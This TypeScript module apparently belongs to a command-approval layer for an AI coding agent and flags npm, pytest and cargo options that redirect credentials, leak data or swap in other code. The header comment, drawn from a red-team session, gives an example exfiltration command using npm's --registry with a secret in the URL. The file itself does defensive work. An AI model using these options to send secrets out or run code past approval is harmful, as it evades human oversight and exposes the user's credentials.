import { maxTier } from '../../../shared/tiers.js';
import type { Outcome } from './outcome.js';
import { spellsLongOption } from './options.js';

/**
 * Options that turn an allowed runner into something else, whatever its allow rule says (red team,
 * session 31): npm's own settings redirect where it connects and whose credentials it sends
 * (`npm outdated --registry=https://host/SECRET` leaves the machine from a command that only
 * queries) or what runs in place of the project's script (`--script-shell`, `--node-options`);
 * pytest empties the folder `--basetemp` names and `--pastebin` posts the run to bpa.st; cargo's
 * `--config` sets a compiler wrapper or a registry inline. Each makes the run a person's call
 * (T2, a floor). Options after `--` belong to the script or the tests, not to the runner.
 *
 * What the project's own files hand these runners (its tests, conftest.py, Makefile, build.rs) is
 * code the agent may have written: an allowed runner runs it with the user's permissions, by design
 * (README, "Threat model in brief"); this table only keeps a one-word option from doing it unseen.
 */
interface RunnerOptions {
  /** Whether the argv (program and arguments) is this runner. */
  readonly runs: (program: string, argv: readonly string[]) => boolean;
  readonly long: readonly string[];
  readonly short: readonly string[];
  /** Long options starting so (npm's `--@scope:registry=`, `--//host/:_authToken=`). */
  readonly prefixes: readonly string[];
  readonly why: string;
}

const RUNNERS: readonly RunnerOptions[] = [
  {
    runs: (program) => program === 'npm',
    long: ['--registry', '--proxy', '--https-proxy', '--noproxy', '--userconfig', '--globalconfig', '--prefix', '--script-shell', '--node-options', '--cafile', '--ca', '--cert', '--key', '--strict-ssl', '--cache', '--_auth', '--otp'],
    short: ['-C'],
    prefixes: ['--@', '--//'],
    why: 'changes where npm connects, whose credentials it sends, or what it runs in place of the script',
  },
  {
    runs: (program, argv) => (program === 'python3' || program === 'python') && argv[0] === '-m' && argv[1] === 'pytest',
    long: ['--basetemp', '--pastebin'],
    short: [],
    prefixes: [],
    why: 'makes pytest empty the folder it names before the run (`--basetemp`) or post the session to bpa.st (`--pastebin`)',
  },
  {
    runs: (program) => program === 'cargo',
    long: ['--config'],
    short: ['-Z'],
    prefixes: [],
    why: 'sets cargo configuration inline: a compiler wrapper, a build runner or a registry',
  },
];

/** The first option of `argv` (before `--`) that the runner's table names, or undefined. */
export function riskyRunnerOption(program: string, argv: readonly string[]): { readonly option: string; readonly why: string } | undefined {
  const runner = RUNNERS.find((r) => r.runs(program, argv));
  if (runner === undefined) return undefined;
  const end = argv.indexOf('--');
  const own = end < 0 ? argv : argv.slice(0, end);
  for (const token of own) {
    if (!token.startsWith('-')) continue;
    const long = runner.long.find((option) => spellsLongOption(token, option));
    const short = token.startsWith('--') ? undefined : runner.short.find((option) => token === option || token.startsWith(option));
    const prefixed = runner.prefixes.find((prefix) => token.startsWith(prefix));
    const named = long ?? short ?? prefixed;
    if (named !== undefined) return { option: token.split('=')[0] ?? token, why: runner.why };
  }
  return undefined;
}

/** An allowed run with such an option: a person's call, saying which option and why. */
export function judgeRunnerOptions(granted: Extract<Outcome, { ok: true }>, program: string, argv: readonly string[]): Outcome {
  const risky = riskyRunnerOption(program, argv);
  if (risky === undefined) return granted;
  const why = `\`${program} … ${risky.option}\` ${risky.why}, so a person decides`;
  return { ...granted, tier: maxTier(granted.tier, 'T2'), floor: maxTier(granted.floor ?? 'T0', 'T2'), reasons: [...granted.reasons, why] };
}
